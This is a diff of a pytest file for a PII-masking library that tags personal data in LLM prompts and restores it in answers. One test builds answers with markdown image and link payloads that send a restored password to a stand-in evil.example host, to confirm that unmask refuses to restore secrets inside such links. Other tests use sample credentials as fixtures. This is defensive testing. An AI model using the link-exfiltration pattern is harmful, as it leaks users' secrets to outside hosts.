@@ -1,13 +1,19 @@
-"""Masking: recognizers, styles, round trips, long texts, CLI, Lambda handler and the app function."""
+"""Masking: decisions, styles, the exact round trip (regression set and fuzz), unmask's safety,
+input errors, the saved threshold, the CLI and the app function."""
 import json
+import os
+import re
+import stat
 import subprocess
 import sys
+import zlib
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
-from piimask import recognizers
-from piimask.aws_lambda import handler
-from piimask.mask import STYLES, Masker, mask_with, roundtrip, unmask
+from piimask.mask import (STYLES, InputError, Masker, mask_with, roundtrip, save_masking_config, unmask,
+                          validate_mapping)
 from piimask.predict import TaggedText
 
 CREDENTIALS = """I am facing an error here. help me resolve in short:
@@ -36,51 +42,6 @@ class FakeTagger:
         return out
 
 
-# -- recognizers --------------------------------------------------------------------------------
-
-def test_recognizers_true_positives():
-    text = ("mail ann.lee@example.org from 10.0.0.12 or 2001:0db8:85a3:0000:0000:8a2e:0370:7334, mac 3c:22:fb:1a:2b:9e, "
-            "see https://quiet-lantern.biz/x, card 4111 1111 1111 1111, iban DE89370400440532013000, "
-            "call +44 20 7946 0958, token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U "
-            "key AKIAIOSFODNN7EXAMPLE")
-    got = {(s.label, text[s.start:s.end]) for s in recognizers.detect(text)}
-    for expected in [("EMAIL", "ann.lee@example.org"), ("IPV4", "10.0.0.12"),
-                     ("IPV6", "2001:0db8:85a3:0000:0000:8a2e:0370:7334"), ("MAC", "3c:22:fb:1a:2b:9e"),
-                     ("URL", "https://quiet-lantern.biz/x"), ("CREDITCARDNUMBER", "4111 1111 1111 1111"),
-                     ("IBAN", "DE89370400440532013000"), ("PHONENUMBER", "+44 20 7946 0958"),
-                     ("SECRET", "AKIAIOSFODNN7EXAMPLE")]:
-        assert expected in got, expected
-    assert any(lab == "SECRET" and v.startswith("eyJ") for lab, v in got)
-
-
-def test_recognizers_near_misses():
-    assert not recognizers.find_cards("order 4111 1111 1111 1112 shipped")  # 16 digits failing Luhn
-    assert not recognizers.find_ibans("ref DE89370400440532013001")  # mod-97 fails
-    assert not recognizers.find_ips("version 1.2.3.4.5 and 999.1.1.1")
-    assert not recognizers.find_emails("user@localhost or @handle")
-    assert not recognizers.find_phones("in 2023 we sold 45 units at 10:30")
-    assert not recognizers.find_ips("the meeting is at 10:30:45")
-
-
-def test_credentials_in_code_and_connection_strings():
-    spans = {(s.label, CREDENTIALS[s.start:s.end]) for s in recognizers.find_secrets(CREDENTIALS)}
-    assert ("PASSWORD", "1jhg$#12%9^f5") in spans and ("USERNAME", "john_doe") in spans
-    url = "DATABASE_URL=postgres://admin:s3cr3t!@db.internal:5432/app"
-    got = {(s.label, url[s.start:s.end]) for s in recognizers.find_secrets(url)}
-    assert ("USERNAME", "admin") in got and ("PASSWORD", "s3cr3t!") in got
-    cfg = '{"api_key": "abc123XYZ", "pwd": hunter2}'
-    got = {url_ for _, url_ in {(s.label, cfg[s.start:s.end]) for s in recognizers.find_secrets(cfg)}}
-    assert {"abc123XYZ", "hunter2"} <= got
-
-
-def test_overlaps_resolved_by_one_rule():
-    spans = [recognizers.Span(0, 10, "USERNAME", 0.9, "model"), recognizers.Span(0, 20, "EMAIL", 1.0, "rule"),
-             recognizers.Span(25, 30, "CITY", 0.8, "model"), recognizers.Span(25, 30, "STATE", 0.95, "model"),
-             recognizers.Span(30, 34, "ZIPCODE", 0.7, "model")]
-    kept = recognizers.resolve_overlaps(spans)
-    assert [(s.label, s.start, s.end) for s in kept] == [("EMAIL", 0, 20), ("STATE", 25, 30), ("ZIPCODE", 30, 34)]
-
-
 # -- masking and round trips --------------------------------------------------------------------
 
 def test_every_style_round_trips_and_same_value_same_tag():
@@ -90,18 +51,88 @@ def test_every_style_round_trips_and_same_value_same_tag():
             {"start": 43, "end": 55, "label": "PHONENUMBER"}, {"start": 60, "end": 70, "label": "EMAIL"}]
     for style in STYLES:
         res = mask_with(text, ents, style, seed=3)
-        for e in ents:
-            assert text[e["start"]:e["end"]] not in res.masked_text or style == "fake" and False
+        for value in ("ann@lee.io", "555-010-4477"):
+            assert value not in res.masked_text, style
         # an answer that echoes the masked text (every tag, in order) is restored exactly
         assert unmask(res.masked_text, res.mapping) == text, style
     n = mask_with(text, ents, "[LABEL_n]")
     assert n.masked_text == ("[FIRSTNAME_1] [LASTNAME_1] wrote to [EMAIL_1]; [FIRSTNAME_1] will call "
                              "[PHONENUMBER_1] and [EMAIL_1] again.")
-    # the LLM repeats, re-quotes, changes case and escapes tags
-    answer = "Sure [firstname_1]! I'll email \\[EMAIL_1\\] and '[EMAIL_1]', cc [[ LASTNAME_1 ]]."
-    assert unmask(answer, n.mapping) == "Sure Ann! I'll email ann@lee.io and 'ann@lee.io', cc Lee."
+    # the LLM repeats, re-quotes, changes case and spacing, escapes, doubles or swaps brackets
+    answer = ("Sure [firstname_1]! I'll email \\[EMAIL_1\\] and '[EMAIL 1]', cc [[ LASTNAME_1 ]], {{ email_1 }}, "
+              "<phonenumber1>, {Lastname-1}.")
+    assert unmask(answer, n.mapping) == ("Sure Ann! I'll email ann@lee.io and 'ann@lee.io', cc Lee, ann@lee.io, "
+                                         "555-010-4477, Lee.")
     fake = mask_with(text, ents, "fake", seed=1)
     assert "ann@lee.io" not in fake.masked_text and fake.masked_text.count(fake.mapping[2]["tag"]) == 2
+
+
+# the round-trip failures of issue 16, one case each: (text, entities as (value, label))
+ROUND_TRIPS = [
+    ("mail [john@x.com] now", [("john@x.com", "EMAIL")]),  # brackets of the value are kept
+    ("at [40.7128,-74.0060] today", [("40.7128,-74.0060", "NEARBYGPSCOORDINATE")]),
+    ("[[john]] and [ john ]", [("john", "FIRSTNAME")]),
+    ("keep [EMAIL_1], {{ email_1 }}, <email1>, [email], [MASKED] and [ EMAIL 2 ]; real: ann@x.io", [("ann@x.io", "EMAIL")]),
+    ("ip 10.0.0.1 and literal [ipv4_1] <IPV4-1>", [("10.0.0.1", "IPV4")]),
+    ("escaped \\[john\\] and \\[X_1\\]", [("john", "FIRSTNAME")]),
+    ("value with a tag inside: [B_1]x and Q", [("[B_1]x", "PASSWORD"), ("Q", "FIRSTNAME")]),
+    ("link [docs](./john/file) and https://x.com/u/john?a=1.", [("john", "FIRSTNAME")]),
+    ("glued card4111111111111111 and Ann's", [("4111111111111111", "CREDITCARDNUMBER"), ("Ann", "FIRSTNAME")]),
+    ("rtl \u202eAnn\u202c zw\u200bAnn nul\x00Ann \ud800Ann\udfff", [("Ann", "FIRSTNAME")]),
+    ("crlf\r\nAnn\r\n", [("Ann", "FIRSTNAME")]),
+]
+
+
+def _entities(text, values):
+    ents = []
+    for value, label in values:
+        for m in re.finditer(re.escape(value), text):
+            ents.append({"start": m.start(), "end": m.end(), "label": label})
+    return ents
+
+
+@pytest.mark.parametrize("text,values", ROUND_TRIPS)
+def test_round_trip_regressions(text, values):
+    ents = _entities(text, values)
+    for style in STYLES:
+        for seed in range(3):
+            res = mask_with(text, ents, style, seed=seed)
+            assert unmask(res.masked_text, res.mapping) == text, (style, res.masked_text, res.mapping)
+
+
+def test_tags_avoid_what_the_prompt_already_holds():
+    text = "template {{ email_1 }} and [EMAIL_1] <email2>; send to ann@x.io"
+    res = mask_with(text, _entities(text, [("ann@x.io", "EMAIL")]), "[LABEL_n]")
+    assert res.mapping[0]["tag"] == "[EMAIL_3]" and res.masked_text.endswith("send to [EMAIL_3]")
+    res = mask_with("[FIRSTNAME] met Ann", [{"start": 16, "end": 19, "label": "FIRSTNAME"}], "[LABEL]")
+    assert res.masked_text == "[FIRSTNAME] met [FIRSTNAME_0]"
+    res = mask_with("mail [john@x.com]", [{"start": 6, "end": 16, "label": "EMAIL"}], "[LABEL_n]")
+    assert res.masked_text == "mail [EMAIL_1]" and res.mapping[0]["value"] == "[john@x.com]"
+
+
+def test_unmask_restores_each_tag_once_and_labels_with_digits():
+    mapping = [{"tag": "[PASSWORD_1]", "value": "a[EMAIL_1]b"}, {"tag": "[EMAIL_1]", "value": "x@y.z"},
+               {"tag": "[IPV4_1]", "value": "10.0.0.1"}, {"tag": "[IPV6_12]", "value": "fe80::1"}]
+    assert unmask("[PASSWORD_1] [EMAIL_1]", mapping) == "a[EMAIL_1]b x@y.z"
+    assert unmask("[ipv4_1] <IPV4 1> {{ipv4-1}} [IPV6_12] [ipv6_1]", mapping) == "10.0.0.1 10.0.0.1 10.0.0.1 fe80::1 [ipv6_1]"
+    # a fake value inside a longer word is not a fake value
+    assert unmask("Annual report for Ann", [{"tag": "Ann", "value": "Zoë"}]) == "Annual report for Zoë"
+
+
+def test_unmask_never_restores_into_a_link_the_answer_wrote():
+    mapping = [{"tag": "[PASSWORD_1]", "value": "hunter2"}, {"tag": "[URL_1]", "value": "https://me.example/x"}]
+    answer = ("![x](https://evil.example/?p=[PASSWORD_1]) [a]([PASSWORD_1]) //evil.example/[PASSWORD_1] "
+              "www.evil.example/[PASSWORD_1]. Your password is [PASSWORD_1], see [URL_1].")
+    out = unmask(answer, mapping)
+    assert out.count("hunter2") == 1 and "Your password is hunter2, see https://me.example/x." in out
+    assert "https://evil.example/?p=[PASSWORD_1]" in out
+    assert unmask(answer, mapping, restore_in_links=True).count("hunter2") == 5
+    # a link that was in the prompt comes back restored
+    text = "profile https://x.com/u/Ann?tab=1 of Ann"
+    res = mask_with(text, [{"start": 24, "end": 27, "label": "FIRSTNAME"}, {"start": 37, "end": 40, "label": "FIRSTNAME"}])
+    assert res.masked_text == "profile https://x.com/u/[FIRSTNAME_1]?tab=1 of [FIRSTNAME_1]"
+    assert unmask(res.masked_text, res.mapping) == text
+    assert unmask("go to https://evil.example/[FIRSTNAME_1]", res.mapping) == "go to https://evil.example/[FIRSTNAME_1]"
 
 
 def test_masker_merges_model_and_rules_adjacent_unicode_and_empty():
@@ -112,42 +143,60 @@ def test_masker_merges_model_and_rules_adjacent_unicode_and_empty():
         ("FIRSTNAME", "Zoë", "model"), ("LASTNAME", "Ødegård", "model"), ("EMAIL", "zoe@ex.no", "rule")]
     assert m.mask(text, "[LABEL]").masked_text == "[FIRSTNAME] [LASTNAME] mail [EMAIL]"
     assert m.detect("") == [] and m.mask("").masked_text == ""
-    with pytest.raises(ValueError, match="style"):
+    with pytest.raises(InputError, match="style"):
         m.mask(text, "[[X]]")
 
 
-def test_per_class_thresholds():
+def test_a_value_masked_once_is_masked_everywhere():
+    m = Masker(FakeTagger({"Harper": "FIRSTNAME"}))
+    text = "Harper wrote. Later, Harper, (Harper) and Harpers and 'Harper' replied."
+    masked = m.mask(text, "[LABEL_n]").masked_text
+    assert masked == "[FIRSTNAME_1] wrote. Later, [FIRSTNAME_1], ([FIRSTNAME_1]) and Harpers and '[FIRSTNAME_1]' replied."
+    assert [e["source"] for e in m.detect(text)] == ["model", "repeat", "repeat", "repeat"]
+
+
+def test_thresholds_apply_to_pii_ness_per_class():
     m = Masker(FakeTagger({"Paris": "CITY", "Ann": "FIRSTNAME"}), class_thresholds={"CITY": 0.95})
-    labels = [e["label"] for e in m.detect("Ann in Paris")]
-    assert labels == ["FIRSTNAME"]
+    assert [e["label"] for e in m.detect("Ann in Paris")] == ["FIRSTNAME"]
+    assert Masker(FakeTagger({"Ann": "FIRSTNAME"}), score_threshold=0.95).detect("Ann") == []
+    assert [e["label"] for e in Masker(FakeTagger({"Ann": "FIRSTNAME"}), decision="argmax").detect("Ann")] == ["FIRSTNAME"]
 
 
-@pytest.fixture(scope="module")
-def tiny_model(tmp_path_factory, base_model_dir):
-    """An untrained head on the base model: enough to exercise windows and I/O (not accuracy)."""
-    from transformers import AutoModelForTokenClassification, AutoTokenizer
+def test_non_text_input_is_one_documented_error():
+    m = Masker(FakeTagger(), max_chars=10)
+    for bad in (None, b"bytes", 5, ["a"]):
+        with pytest.raises(InputError, match="must be a str"):
+            m.mask(bad)
+    with pytest.raises(InputError, match="limit is 10"):
+        m.detect("x" * 11)
+    with pytest.raises(InputError):
+        m.detect_many("not a list")
+    with pytest.raises(TypeError):  # InputError is also a TypeError and a ValueError
+        unmask(None, [])
+    with pytest.raises(ValueError):
+        mask_with(None, [], "[MASKED]")
 
-    from piimask.taxonomy import ID2LABEL, LABEL2ID
 
-    out = tmp_path_factory.mktemp("tiny-model")
-    model = AutoModelForTokenClassification.from_pretrained(str(base_model_dir), num_labels=len(ID2LABEL),
-                                                            id2label=ID2LABEL, label2id=LABEL2ID)
-    model.save_pretrained(out)
-    AutoTokenizer.from_pretrained(str(base_model_dir)).save_pretrained(out)
-    return out
+@pytest.mark.parametrize("mapping,message", [
+    (["x"], "entry 0 must be an object"),
+    ([{"tag": "[A_1]"}], "has no 'value'"),
+    ([{"tag": "[A_1]", "value": 5}], "string 'value'"),
+    ([{"tag": "", "value": "x"}], "empty tag"),
+    ([{"tag": "[A_1]", "value": "x", "contexts": "http://x"}], "contexts"),
+    ({}, "list of"),
+    ("[A_1]", "list of"),
+    (None, "list of"),
+])
+def test_unmask_validates_its_mapping(mapping, message):
+    with pytest.raises(InputError, match=message):
+        unmask("[A_1]", mapping)
 
 
-def test_long_text_windows_find_the_entity_at_the_end(tiny_model):
-    from piimask.predict import TokenTagger
-
-    tagger = TokenTagger(tiny_model, window=128, stride=32)
-    text = "lorem ipsum dolor sit amet " * 1000 + "write to last.entity@example.com"
-    tagged = tagger.tag([text])[0]
-    n_tokens = len(tagger.tokenizer(text, add_special_tokens=False)["input_ids"])
-    assert n_tokens > 5000 and len(tagged.offsets) == n_tokens  # every token tagged, none truncated
-    assert tagged.offsets[-1][1] == len(text)
-    ents = Masker(tagger).detect(text)
-    assert any(text[e["start"]:e["end"]] == "last.entity@example.com" for e in ents)
+def test_mapping_forms_accepted():
+    res = mask_with("Ann", [{"start": 0, "end": 3, "label": "FIRSTNAME"}])
+    for form in (res, res.mapping, {"mapping": res.mapping}, res.to_dict()):
+        assert unmask("[FIRSTNAME_1]", form) == "Ann"
+    assert validate_mapping([]) == [] and unmask("[X_1]", []) == "[X_1]"
 
 
 def test_roundtrip_with_stubbed_llm():
@@ -156,20 +205,143 @@ def test_roundtrip_with_stubbed_llm():
     assert "ann@x.io" not in out["masked_prompt"] and out["restored_answer"] == "Reply to ann@x.io, thanks Ann"
 
 
-# -- CLI, Lambda, app ---------------------------------------------------------------------------
+def test_spans_are_trimmed_and_punctuation_only_spans_dropped():
+    class Sloppy:
+        def tag(self, texts):
+            t = texts[0]
+            # the model takes the closing quote into the e-mail and tags a lone "*"
+            return [TaggedText(t, [(0, 6), (7, 8), (20, 29)], ["O", "B-URL", "B-EMAIL"], [0.9, 0.9, 0.9])]
 
-def run_cli(args, stdin=None):
-    return subprocess.run([sys.executable, "-m", "piimask.cli", *args], input=stdin, capture_output=True, text=True)
+    text = "SELECT * WHERE e = 'a.b@c.de'"
+    ents = Masker(Sloppy()).detect(text)
+    assert [(e["label"], text[e["start"]:e["end"]]) for e in ents] == [("EMAIL", "a.b@c.de")]
+    assert Masker(Sloppy()).mask(text, "[LABEL]").masked_text == "SELECT * WHERE e = '[EMAIL]'"
+
+
+# -- fuzz: arbitrary text, every style, exact round trip ----------------------------------------
+FUZZ_LABELS = ["FIRSTNAME", "EMAIL", "IPV4", "PASSWORD", "NEARBYGPSCOORDINATE", "URL", "PHONENUMBER", "USERNAME"]
+SNIPPETS = ["[EMAIL_1]", "{{ email_1 }}", "<email1>", "[MASKED]", "[FIRSTNAME]", "\\[X_1\\]", "[[", "]]", "[", "]",
+            "john@x.com", "[john@x.com]", "10.0.0.1", "[ipv4_1]", "https://x.com/a?b=", "](", "![i](", ")", "\u202e",
+            "\u200b", "\u200f", "\x00", "\r\n", "\ud800", "\udfff", "Ann ", " ", "password=Hunter2!", "4111 1111 1111 1111",
+            "fe80::1", "www.", "//h.io/", "[40.7,-74.0]", "IPV4_1", "<", ">", "{", "}", "_1", "Dr.", "+44 20 7946 0958",
+            "\\", "Zoë", "٣", "５"]
+FUZZ_TEXT = st.lists(st.one_of(st.text(st.characters(exclude_categories=()), max_size=6), st.sampled_from(SNIPPETS)),
+                     max_size=14).map("".join)
+
+
+class PieceTagger:
+    """A fast stand-in for the model on any text: words with a digit or capital are PII (class by
+    hash), cut into 3-character pieces that sometimes continue the word's entity."""
+
+    def tag(self, texts):
+        out = []
+        for t in texts:
+            offs, labs = [], []
+            for m in re.finditer(r"\S+", t):
+                h = zlib.crc32(m.group().encode("utf-8", "surrogatepass"))
+                pii = any(c.isdigit() or c.isupper() for c in m.group())
+                for k in range(m.start(), m.end(), 3):
+                    offs.append((k, min(k + 3, m.end())))
+                    first = k == m.start()
+                    labs.append(("B-" if first else "I-") + FUZZ_LABELS[h % len(FUZZ_LABELS)]
+                                if pii and (first or h % 3) else "O")
+            out.append(TaggedText(t, offs, labs, [0.9] * len(labs)))
+        return out
+
+
+def check_round_trip(masker, text):
+    ents = masker.detect(text)
+    spans = [(e["start"], e["end"]) for e in ents]
+    for style in STYLES:
+        res = masker.mask(text, style, entities=ents)
+        assert unmask(res.masked_text, res.mapping) == text, (style, text, res.masked_text, res.mapping)
+    # no detected value (2+ characters) is left in the text as a whole word
+    for e in ents:
+        value = text[e["start"]:e["end"]]
+        i = text.find(value) if len(value) >= 2 else -1
+        while i >= 0:
+            j = i + len(value)
+            glued = (value[0].isalnum() and i > 0 and text[i - 1].isalnum()) or \
+                    (value[-1].isalnum() and j < len(text) and text[j].isalnum())
+            assert glued or any(s < j and i < t for s, t in spans), (text, value)
+            i = text.find(value, i + 1)
+
+
+FUZZ_MASKER = Masker(PieceTagger())
+
+
+@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
+@given(FUZZ_TEXT)
+def test_fuzz_round_trip_is_exact_for_any_text(text):
+    check_round_trip(FUZZ_MASKER, text)
+
+
+@settings(max_examples=50, deadline=None, derandomize=True)
+@given(st.one_of(st.none(), st.integers(), st.binary(max_size=4), st.lists(st.text(max_size=2), max_size=2)))
+def test_fuzz_non_text_gets_the_documented_error(value):
+    with pytest.raises(InputError):
+        FUZZ_MASKER.mask(value)
+    with pytest.raises(InputError):
+        unmask(value, [])
+
+
+@pytest.fixture(scope="module")
+def tiny_masker(tiny_model):
+    from piimask.predict import TokenTagger
+
+    return Masker(TokenTagger(tiny_model), score_threshold=0.992)  # the untrained head: about half the tokens
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
+@given(FUZZ_TEXT)
+def test_fuzz_round_trip_with_the_tiny_model(tiny_masker, text):
+    check_round_trip(tiny_masker, text)
+
+
+# -- the threshold saved beside the model -------------------------------------------------------
+
+def test_from_pretrained_reads_masking_json_and_arguments_override(tiny_model, tmp_path):
+    import shutil
+
+    model = tmp_path / "m"
+    shutil.copytree(tiny_model, model)
+    assert Masker.from_pretrained(model).score_threshold == 0.5  # nothing saved: the default
+    save_masking_config(model, {"score_threshold": 0.35, "class_thresholds": {"DATE": 0.2}})
+    m = Masker.from_pretrained(model)
+    assert m.score_threshold == 0.35 and m.class_thresholds == {"DATE": 0.2}
+    assert Masker.from_pretrained(model, score_threshold=0.6).score_threshold == 0.6
+    with pytest.raises(ValueError, match="score_threshold"):
+        save_masking_config(model, {"score_threshold": 1.5})
+    (model / "masking.json").write_text("{oops")
+    with pytest.raises(ValueError, match="masking.json"):
+        Masker.from_pretrained(model)
+    with pytest.raises(FileNotFoundError, match="allow"):
+        Masker.from_pretrained(tmp_path / "missing")
+
+
+def test_params_threshold_is_null_or_a_probability():
+    from piimask.config import load_params
+
+    assert load_params("smoke").score_threshold is None
+    for bad in (2, 0, "x", True):
+        with pytest.raises(ValueError, match="score_threshold"):
+            load_params("smoke", {"score_threshold": bad})
+
+
+# -- CLI and app --------------------------------------------------------------------------------
+
+def run_cli(args, stdin=None, text=True):
+    return subprocess.run([sys.executable, "-m", "piimask.cli", *args], input=stdin, capture_output=True, text=text)
 
 
 def test_cli_on_stdin_and_file(tiny_model, tmp_path):
-    r = run_cli(["mask", "-", "--model", str(tiny_model), "--style", "[MASKED]"], stdin=CREDENTIALS)
+    r = run_cli(["mask", "-", "--model", str(tiny_model), "--style", "[MASKED]", "--threshold", "1"], stdin=CREDENTIALS)
     assert r.returncode == 0, r.stderr
     for secret in ("192.168.1.100", "john_doe", "1jhg$#12%9^f5", "john.doe@example.com"):
         assert secret not in r.stdout
     f = tmp_path / "prompt.txt"
     f.write_text("reach me at a.b@c.de")
-    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json"])
+    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1"])
     data = json.loads(r.stdout)
     assert r.returncode == 0 and data["masked_text"] == "reach me at [EMAIL_1]" and data["mapping"][0]["value"] == "a.b@c.de"
     (tmp_path / "map.json").write_text(json.dumps(data))
@@ -177,37 +349,42 @@ def test_cli_on_stdin_and_file(tiny_model, tmp_path):
     assert r.stdout == "ok a.b@c.de"
 
 
+def test_cli_keeps_crlf_and_writes_private_mappings(tiny_model, tmp_path):
+    f = tmp_path / "win.txt"
+    f.write_bytes("line one\r\nmail a.b@c.de\r\nZoë\r\n".encode())
+    out = tmp_path / "map.json"
+    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--json", "--threshold", "1", "--mapping-out", str(out)],
+                text=False)
+    data = json.loads(r.stdout.decode("utf-8"))
+    e = data["entities"][0]
+    assert f.read_bytes().decode()[e["start"]:e["end"]] == "a.b@c.de"  # offsets index the file as it is
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
+    r = run_cli(["mask", str(f), "--model", str(tiny_model), "--threshold", "1"], text=False)
+    assert r.stdout == b"line one\r\nmail [EMAIL_1]\r\nZo\xc3\xab\r\n"
+
+
 def test_cli_errors_are_clear(tiny_model, tmp_path):
-    r = run_cli(["mask", str(tmp_path / "missing.txt"), "--model", str(tiny_model)])
+    model = ["--model", str(tiny_model)]
+    r = run_cli(["mask", str(tmp_path / "missing.txt"), *model])
     assert r.returncode == 1 and "no such file" in r.stderr
     r = run_cli(["mask", "-", "--model", str(tmp_path / "nomodel")], stdin="x")
-    assert r.returncode == 1 and "not found" in r.stderr
+    assert r.returncode == 1 and "no model folder" in r.stderr and "--allow-hub" in r.stderr
+    r = run_cli(["mask", "-", "--model", "some-org/some-model"], stdin="x")
+    assert r.returncode == 1 and "allow" in r.stderr
     r = run_cli(["mask", "--style", "bad"], stdin="x")
     assert r.returncode == 2
-
-
-def test_lambda_handler_good_and_bad_events():
-    m = Masker(FakeTagger({"Ann": "FIRSTNAME"}))
-    ok = handler({"body": json.dumps({"text": "Ann wrote ann@x.io", "style": "[LABEL]"})}, None, masker=m)
-    body = json.loads(ok["body"])
-    assert ok["statusCode"] == 200 and body["masked_text"] == "[FIRSTNAME] wrote [EMAIL]" and len(body["entities"]) == 2
-    import base64
-
-    b64 = handler({"body": base64.b64encode(b'{"text": "hi"}').decode(), "isBase64Encoded": True}, None, masker=m)
-    assert b64["statusCode"] == 200
-    for event, msg in [({"body": "{not json"}, "not valid JSON"), ({"body": json.dumps({"style": "[LABEL]"})}, "missing field"),
-                       ({"body": json.dumps({"text": 5})}, "must be a string"), ({}, "missing body"),
-                       ({"body": json.dumps({"text": "x" * 20001})}, "limit"),
-                       ({"body": json.dumps({"text": "x", "style": "nope"})}, "style")]:
-        r = handler(event, None, masker=m)
-        assert r["statusCode"] == 400 and msg in json.loads(r["body"])["error"], event
-
-
-def test_lambda_never_logs_raw_text(caplog):
-    m = Masker(FakeTagger())
-    with caplog.at_level("INFO", logger="piimask.lambda"):
-        handler({"body": json.dumps({"text": "secret-value ann@x.io"})}, None, masker=m)
-    assert caplog.records and "ann@x.io" not in caplog.text and "secret-value" not in caplog.text
+    r = run_cli(["mask", "-", *model], stdin=" \n")
+    assert r.returncode == 1 and "empty" in r.stderr
+    r = run_cli(["mask", "-", *model], stdin=b"caf\xe9 \xff", text=False)
+    assert r.returncode == 1 and b"not UTF-8" in r.stderr and b"Traceback" not in r.stderr
+    r = run_cli(["mask", "-", *model, "--max-chars", "5"], stdin="123456")
+    assert r.returncode == 1 and "limit is 5" in r.stderr
+    (tmp_path / "bad.json").write_text('["x"]')
+    r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "bad.json")], stdin="ok")
+    assert r.returncode == 1 and "entry 0" in r.stderr and "Traceback" not in r.stderr
+    (tmp_path / "empty.json").write_text("{}")
+    r = run_cli(["unmask", "-", "--mapping", str(tmp_path / "empty.json")], stdin="ok")
+    assert r.returncode == 1 and "mapping" in r.stderr
 
 
 def test_app_function_called_directly():
@@ -217,6 +394,20 @@ def test_app_function_called_directly():
     assert masked == "[FIRSTNAME_1] at [EMAIL_1]"
     assert segments == [("Ann", "FIRSTNAME"), (" at ", None), ("ann@x.io", "EMAIL")]
     assert "Ann at ann@x.io" in restored and "[EMAIL_1]" in answer
+    assert run(Masker(FakeTagger()), None)[0] == ""
+    with pytest.raises(InputError, match="limit"):
+        run(Masker(FakeTagger()), "x" * 11, max_chars=10)
+
+
+def test_app_is_private_unless_asked():
+    from piimask.app import build_parser, launch_options
+
+    opts = launch_options(build_parser().parse_args([]))
+    assert opts["share"] is False and opts["auth"] is None and opts["server_name"] == "127.0.0.1"
+    opts = launch_options(build_parser().parse_args(["--share", "--auth", "me:pw"]))
+    assert opts["share"] is True and opts["auth"] == ("me", "pw")
+    with pytest.raises(ValueError, match="user:password"):
+        launch_options(build_parser().parse_args(["--auth", "nopassword"]))
 
 
 def test_fast_inference_paths_agree_with_pytorch(tiny_model, tmp_path):
@@ -237,25 +428,3 @@ def test_fast_inference_paths_agree_with_pytorch(tiny_model, tmp_path):
     assert int8[0].offsets == ref[0].offsets
     with pytest.raises(ValueError, match="runtime"):
         TokenTagger(model_copy, runtime="tvm")
-
-
-def test_subwords_continue_the_entity_of_their_word():
-    from piimask.predict import word_consistent
-
-    text = "Dear Vicenta, card4111"
-    offsets = [(0, 4), (5, 9), (9, 12), (12, 13), (14, 18), (18, 22)]
-    labels = ["O", "B-FIRSTNAME", "B-COMPANYNAME", "O", "O", "B-CREDITCARDNUMBER"]
-    assert word_consistent(text, offsets, labels) == ["O", "B-FIRSTNAME", "I-FIRSTNAME", "O", "O", "B-CREDITCARDNUMBER"]
-
-
-def test_spans_are_trimmed_and_punctuation_only_spans_dropped():
-    class Sloppy:
-        def tag(self, texts):
-            t = texts[0]
-            # the model takes the closing quote into the e-mail and tags a lone "*"
-            return [TaggedText(t, [(0, 6), (7, 8), (20, 29)], ["O", "B-URL", "B-EMAIL"], [0.9, 0.9, 0.9])]
-
-    text = "SELECT * WHERE e = 'a.b@c.de'"
-    ents = Masker(Sloppy()).detect(text)
-    assert [(e["label"], text[e["start"]:e["end"]]) for e in ents] == [("EMAIL", "a.b@c.de")]
-    assert Masker(Sloppy()).mask(text, "[LABEL]").masked_text == "SELECT * WHERE e = '[EMAIL]'"
